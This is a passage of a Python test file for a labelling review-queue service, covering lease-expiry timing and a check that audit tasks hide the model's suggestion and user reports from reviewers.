    """`lease_remaining_s` is within a lease just taken or renewed (a fresh one: the request
    took well under 10 s), and says what `lease_expires_at` says, by the same clock."""
    remaining = task["lease_remaining_s"]
    assert lease_s - 10 < remaining <= lease_s, remaining
    assert abs(seconds_left(task["lease_expires_at"]) - remaining) < 10


def test_lease_remaining_is_counted_on_the_servers_clock() -> None:
    now = utcnow()
    assert lease_remaining_s(now + timedelta(seconds=90.5), now=now) == 90.5
    assert lease_remaining_s(now + timedelta(microseconds=1600), now=now) == 0.002
    assert lease_remaining_s(now - timedelta(seconds=1), now=now) == 0.0  # run out: not negative


def set_lease(engine: Engine, task_id: int, *, seconds_left: float) -> None:
    """Move a task's lease expiry to `seconds_left` from now (negative: run out)."""
    with Session(engine) as session:
        task = session.get(ReviewTask, task_id)
        assert task is not None
        task.lease_expires_at = utcnow() + timedelta(seconds=seconds_left)
        session.add(task)
        session.commit()


def seconds_left(expires_at: str) -> float:
    return (datetime.fromisoformat(expires_at) - utcnow()).total_seconds()


def test_an_audit_task_shows_neither_the_models_suggestion_nor_what_users_claim(
    sqlite_client: TestClient,
) -> None:
    """An audit item a user reported (its reports join the open task, which stays an audit
    item) is claimed without the users' claim: shown "users say it is mlops", the reviewer
    leaned that way, and the audit's live precision with them. Before, `reports` carried it
    as for any reported task; a reported task that is not an audit item still shows it.
    Nor does it show the model's tag or scores, for the same reason (before, the suggestion
    was there as for any task), in any answer that carries the task; the low-confidence task
    still shows its suggestion."""
    engine = state_of(sqlite_client).engine
    low, audit = add_tasks(engine, 2)
    with Session(engine) as session:
        task = session.get(ReviewTask, audit)
        assert task is not None
        task.reason = ReviewReason.AUDIT
        session.add(task)
        for i, task_id in enumerate((low, audit)):
            session.add(
                Feedback(
                    prediction_id=str(i) * 32,
                    correct_tag="mlops",
                    comment="it is mlops",
                    text_hash=text_hash(f"task {i}", ""),
                    status=FeedbackStatus.IN_REVIEW,
                    task_id=task_id,
                )
            )
        session.commit()
    headers = auth("reviewer")
    claimed = sqlite_client.post("/review/claim", json=body("ann"), headers=headers).json()
    assert (claimed["task_id"], claimed["reason"], claimed["reports"]) == (audit, "audit", [])
    blind = {"tag": None, "scores": {}}
    assert claimed["suggestion"] == blind
    claimed = sqlite_client.post("/review/claim", json=body("bob"), headers=headers).json()
    assert claimed["task_id"] == low
    assert claimed["reports"] == [{"correct_tag": "mlops", "comment": "it is mlops"}]
    assert claimed["suggestion"] == {"tag": "other", "scores": {"other": 1.0}}
    for action in ("renew", "skip"):
        answer = sqlite_client.post(f"/review/{audit}/{action}", json=body("ann"), headers=headers)
        assert answer.status_code == 200 and answer.json()["suggestion"] == blind, action
    claimed = sqlite_client.post("/review/claim", json=body("cat"), headers=headers).json()
    assert (claimed["task_id"], claimed["suggestion"]) == (audit, blind)
    labelled = sqlite_client.post(
        f"/review/{audit}/label", json=body("cat", tag="mlops"), headers=headers
    )
    assert labelled.status_code == 201
    reopened = sqlite_client.post(f"/review/{audit}/reopen", json=body("cat"), headers=headers)
    assert reopened.status_code == 200 and reopened.json()["suggestion"] == blind
